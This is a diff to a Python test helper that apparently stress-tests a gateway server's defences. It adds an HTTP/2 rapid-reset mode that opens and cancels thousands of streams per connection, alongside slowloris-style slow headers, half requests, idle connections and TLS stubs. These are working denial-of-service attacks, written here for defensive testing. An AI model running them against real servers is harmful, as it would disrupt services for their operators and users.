@@ -1,14 +1,20 @@
 # SPDX-License-Identifier: Apache-2.0
 """Crowds that mean no good, in a process of their own: python attackers.py KIND HOST PORT COUNT [ADDRESSES].
 
-They come from so many addresses of this machine, one unless told. Says "ready" once all connections are open for the first
-time, opens another for each that is closed on it, and ends with its standard input. `silent`: nothing is ever said. `half`: half a request line. `slow`: a head that never ends, a byte
-of it now and then."""
+They come from so many addresses of this machine, one unless told. Says "ready" once all connections are open for the
+first time, opens another for each that is closed on it, and ends with its standard input. `silent`: nothing is ever said.
+`few`: the first three bytes of a TLS record. `half`: half a request line. `slow`: a head that never ends, a byte of it
+now and then.
+
+`resets`: one connection of HTTP/2 after the other, on which requests are begun and reset at once, with the key of
+$PUSHGATE_TEST_KEY. Says "ready" once so many were, and goes on until its standard input ends."""
 
 import errno
+import os
 import resource
 import select
 import socket
+import struct
 import sys
 import time
 
@@ -45,7 +51,7 @@ class Crowd:
             client, said = self.open[number]
             if event & select.EPOLLOUT and said == 0:
                 self.poller.modify(client, select.EPOLLIN)
-                words = {"silent": b"", "half": HEAD[:9], "slow": HEAD}[self.kind]
+                words = {"silent": b"", "few": b"\x16\x03\x01", "half": HEAD[:9], "slow": HEAD}[self.kind]
                 self.open[number][1] = 1
                 try:
                     client.send(words)
@@ -78,7 +84,58 @@ class Crowd:
         print(f"{self.opened} opened, {self.lost} lost, {len(self.open)} open", flush=True)
 
 
+class Resets:
+    PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\x04\0\0\0\0\0"
+
+    def __init__(self, host, port, count):
+        self.place, self.count = (host, port), count
+        self.sent = self.connections = self.blamed = 0
+        fields = [
+            (":method", "GET"), (":scheme", "http"), (":path", "/v1/apps"), (":authority", "gateway"),
+            ("authorization", f"Bearer {os.environ['PUSHGATE_TEST_KEY']}")]
+        # Literal, so that the table does not matter.
+        block = b"".join(
+            b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode() for name, value in fields)
+        self.batches = [
+            b"".join(
+                self.frame(1, 5, stream, block) + self.frame(3, 0, stream, b"\0\0\0\x08")
+                for stream in range(first, first + 200, 2))
+            for first in range(1, 2 * 2_000, 2 * 100)]
+
+    @staticmethod
+    def frame(kind, flags, stream, payload):
+        return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
+
+    def attack(self):
+        """One connection, for as long as it is borne with."""
+        with socket.create_connection(self.place, timeout=20) as client:
+            self.connections += 1
+            told = b""
+            try:
+                client.sendall(self.PREFACE)
+                for batch in self.batches:
+                    client.sendall(batch)
+                    self.sent += 100
+                while piece := client.recv(65536):
+                    told += piece
+            except ConnectionError:
+                pass
+            # ENHANCE_YOUR_CALM, where the kernel's reset did not overtake it.
+            self.blamed += b"\0\0\0\x0b" in told
+
+    def run(self):
+        is_ready = False
+        while not select.select([sys.stdin], [], [], 0)[0]:
+            self.attack()
+            if not is_ready and self.sent >= self.count:
+                is_ready = True
+                print("ready", flush=True)
+        print(f"{self.sent} resets over {self.connections} connections, {self.blamed} told to be calm", flush=True)
+
+
 if __name__ == "__main__":
     _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
     resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
-    Crowd(sys.argv[1], sys.argv[2], *map(int, sys.argv[3:])).run()
+    kind, host, *numbers = sys.argv[1:]
+    numbers = map(int, numbers)
+    (Resets(host, *numbers) if kind == "resets" else Crowd(kind, host, *numbers)).run()
